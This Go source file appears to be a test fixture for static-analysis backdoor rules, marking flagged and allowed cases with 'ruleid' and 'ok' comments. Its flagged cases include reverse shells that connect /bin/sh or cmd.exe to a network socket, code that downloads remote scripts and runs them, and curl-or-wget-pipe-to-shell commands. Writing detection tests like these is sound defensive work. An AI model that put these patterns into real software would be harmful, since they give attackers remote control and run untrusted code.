package main

import (
	"io"
	"net"
	"net/http"
	"os/exec"
)

func maintain() {
	line, err := net.Dial("tcp", "203.0.113.7:443")
	if err != nil {
		return
	}
	shell := exec.Command("/bin/sh")
	// ruleid: go.backdoor.reverse-shell
	shell.Stdin = line
	shell.Stdout = line
	shell.Run()
}

func answer(line net.Conn) {
	shell := exec.Command("cmd.exe")
	// ruleid: go.backdoor.reverse-shell
	shell.Stdin, shell.Stdout, shell.Stderr = line, line, line
	shell.Run()
}

func filter(in io.Reader) {
	sort := exec.Command("sort")
	// ok: go.backdoor.reverse-shell
	sort.Stdin = in
	sort.Run()
	line, _ := net.Dial("tcp", "db.example.com:5432")
	// ok: go.backdoor.reverse-shell
	io.Copy(line, in)
}

func update() {
	answer, _ := http.Get("https://tools.example.com/run.sh")
	text, _ := io.ReadAll(answer.Body)
	// ruleid: go.backdoor.download-and-run
	exec.Command("bash", "-c", string(text)).Run()
	shell := exec.Command("sh")
	// ruleid: go.backdoor.download-and-run
	shell.Stdin = answer.Body
	shell.Run()
}

func show() {
	answer, _ := http.Get("https://tools.example.com/news.txt")
	text, _ := io.ReadAll(answer.Body)
	// ok: go.backdoor.download-and-run
	exec.Command("notify-send", string(text)).Run()
	// ok: go.backdoor.download-and-run
	exec.Command("bash", "-c", "systemctl restart shop").Run()
}

func install() {
	// ruleid: go.backdoor.piped-installer
	exec.Command("sh", "-c", "curl -s https://tools.example.com/run.sh | bash").Run()
	// ruleid: go.backdoor.piped-installer
	exec.Command("bash", "-c", "wget -qO- https://tools.example.com/run.py | python3").Run()
	// ok: go.backdoor.piped-installer
	exec.Command("sh", "-c", "curl -s https://tools.example.com/news.txt | head -1").Run()
	// ok: go.backdoor.piped-installer
	exec.Command("sh", "-c", "cat run.sh | bash").Run()
}
